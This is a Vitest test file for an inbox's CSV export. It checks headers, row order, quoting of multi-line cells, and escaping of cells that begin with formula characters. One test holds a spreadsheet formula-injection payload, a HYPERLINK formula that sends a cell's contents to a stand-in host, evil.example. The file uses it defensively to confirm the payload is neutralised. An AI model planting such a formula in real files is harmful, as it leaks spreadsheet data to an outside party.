import { describe, expect, it } from "vitest";
import { parseCsv } from "~/../tests/support/csv";
import { INBOX_CSV_HEADER, inboxCsv } from "./inbox-csv.server";
import type { InboxMessage } from "./inbox.server";

const RECEIVED = new Date("2027-03-10T20:00:00.000Z");

const message = (fields: Partial<InboxMessage>): InboxMessage => ({
  kind: "contact",
  id: "c1",
  receivedAt: RECEIVED,
  status: "new",
  statusChangedAt: null,
  name: "Kai Family",
  email: "kai@example.com",
  context: "MCB Hawaii",
  text: "We arrive in June.",
  repliedAt: null,
  ...fields,
});

/** The cells of each message's row, by column heading. */
function rowsOf(csv: string) {
  const [header, ...rows] = parseCsv(csv);
  return { header, rows: rows.map((row) => Object.fromEntries(row.map((cell, index) => [header![index], cell]))) };
}

describe("the inbox's CSV export", () => {
  it("has a heading line and one row per message, in the order given", () => {
    const csv = inboxCsv([
      message({ repliedAt: new Date("2027-03-11T01:02:03.000Z"), status: "answered" }),
      message({ kind: "suggestion", id: "s1", name: null, email: null, context: null, text: "More maps" }),
    ]);
    expect(csv.startsWith("\uFEFFkind,id,received,")).toBe(true);
    const { header, rows } = rowsOf(csv);
    expect(header).toEqual(INBOX_CSV_HEADER);
    expect(header).toEqual([
      "kind",
      "id",
      "received",
      "status",
      "name",
      "email",
      "base/category",
      "text",
      "replied at",
    ]);
    expect(rows).toEqual([
      {
        kind: "contact",
        id: "c1",
        received: "2027-03-10T20:00:00.000Z",
        status: "answered",
        name: "Kai Family",
        email: "kai@example.com",
        "base/category": "MCB Hawaii",
        text: "We arrive in June.",
        "replied at": "2027-03-11T01:02:03.000Z",
      },
      {
        kind: "suggestion",
        id: "s1",
        received: "2027-03-10T20:00:00.000Z",
        status: "new",
        name: "",
        email: "",
        "base/category": "",
        text: "More maps",
        "replied at": "",
      },
    ]);
  });

  it("escapes a message that is a formula, so a spreadsheet shows it as text", () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your orders")';
    const { rows } = rowsOf(inboxCsv([message({ text: formula })]));
    expect(rows[0]!.text).toBe(`'${formula}`);
    // The raw file: the quote comes first, inside the quoted cell.
    expect(inboxCsv([message({ text: formula })])).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1`);
  });

  it.each([
    ["=", "=1+1"],
    ["+", "+1 808 555 0100"],
    ["-", "-2+3"],
    ["@", "@SUM(A1:A9)"],
    ["a tab", "\t=1+1"],
    ["a carriage return", "\r=1+1"],
  ])("puts a quote before any cell starting with %s", (_start, text) => {
    const { rows } = rowsOf(inboxCsv([message({ text, name: text, context: text })]));
    expect(rows[0]).toMatchObject({ text: `'${text}`, name: `'${text}`, "base/category": `'${text}` });
  });

  it("leaves those characters alone anywhere but the start", () => {
    const text = "Kai-Family: 2+2 = 4, email me @ home";
    expect(rowsOf(inboxCsv([message({ text, name: "Kai-Family" })])).rows[0]).toMatchObject({
      text,
      name: "Kai-Family",
    });
  });

  it("keeps a message with line breaks, quotes and commas as one cell", () => {
    const text = 'Aloha,\nwe said "two dogs", not one.\r\nMahalo,\n"Kai"';
    // Only a line break, nothing else that needs quoting.
    const twoLines = "Line one\nline two";
    const csv = inboxCsv([
      message({ text }),
      message({ id: "c2", text: twoLines }),
      message({ id: "c3", text: "Third" }),
    ]);
    const { rows } = rowsOf(csv);
    expect(rows.map((row) => [row.id, row.text])).toEqual([
      ["c1", text],
      ["c2", twoLines],
      ["c3", "Third"],
    ]);
  });

  it("has only the heading when there is nothing to export", () => {
    expect(parseCsv(inboxCsv([]))).toEqual([INBOX_CSV_HEADER]);
  });
});
